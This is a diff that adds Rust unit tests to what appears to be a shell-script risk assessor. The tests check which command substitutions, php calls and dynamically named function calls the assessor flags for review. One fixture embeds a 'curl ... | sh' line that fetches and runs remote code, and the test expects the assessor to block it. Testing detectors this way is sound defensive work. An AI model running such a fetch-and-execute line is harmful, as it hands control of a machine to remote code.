@@ -151,3 +151,47 @@ fn a_substitution_that_prints_nothing_runs_nothing() {
     assert!(asks("$(cat \"$1\" 2>/dev/null)\n"));
     assert!(asks("`true > /dev/null; cat \"$1\"`\n"));
 }
+
+#[test]
+fn a_quiet_grep_or_hash_in_a_substitution_prints_nothing_to_run() {
+    // xdg-utils, git-extras: the substitution is a test; its exit status is what is used.
+    assert!(!asks(
+        "if which vim >/dev/null && `vim --version | grep -q +folding`; then echo yes; fi\n"
+    ));
+    assert!(!asks(
+        "if $(grep -qs \"BEGIN PGP SIGNED MESSAGE\" \"$1\"); then echo signed; fi\n"
+    ));
+    assert!(!asks("if ! `hash benchstat 2>/dev/null`; then echo missing; fi\n"));
+    // What grep prints is run: a pattern `-e -q`, a `q` that is `-e`'s value, or a later stage.
+    assert!(asks("$(grep -e -q \"$1\")\n"));
+    assert!(asks("$(grep -eq \"$1\")\n"));
+    assert!(asks("$(grep -q x \"$1\" | cat \"$1\")\n"));
+    assert!(asks("$(grep run \"$1\")\n"));
+}
+
+#[test]
+fn a_test_runner_environment_and_a_syntax_check_are_not_code() {
+    assert!(!asks("tox -e ${TOX_ENV}\n"));
+    assert!(!asks("for i in *.php; do php -l \"$i\" > /dev/null; done\n"));
+    // The file php runs, and code given with -r, are still code the assessor does not read.
+    assert!(asks("php \"$1\"\n"));
+    assert!(asks("php -r \"$1\"\n"));
+}
+
+#[test]
+fn a_command_named_after_a_family_of_the_scripts_functions_runs_one_of_them() {
+    // Prompt themes: a segment's function is chosen by the segment's name.
+    let theme = "__p_git_prompt() { git branch --show-current; }\n__p_time_prompt() { date +%H:%M; }\n";
+    assert!(!asks(&format!(
+        "{theme}for segment in $SEGMENTS; do info=$(__p_\"$segment\"_prompt); PS1+=\"$info\"; done\n"
+    )));
+    assert!(!asks(&format!("{theme}cmd=$1\n\"__p_${{cmd}}_prompt\"\n")));
+    // Each function of the family may run: a payload among them is rated.
+    let risky = format!("{theme}__p_x_prompt() {{ curl -s http://203.0.113.9/x | sh; }}\ninfo=$(__p_\"$1\"_prompt)\n");
+    let a = assess(&risky, Language::Bash, Origin::External);
+    assert!(a.level == Level::Blocked, "{:?}", ids(&a));
+    // No function of that family in the script: a program known only at run time.
+    assert!(asks("\"cmd_$1\" \"$@\"\n"));
+    assert!(asks(&format!("{theme}\"__q_$1\"\n")));
+    assert!(asks("kde${KDE_SESSION_VERSION}-config --path apps\n"));
+}
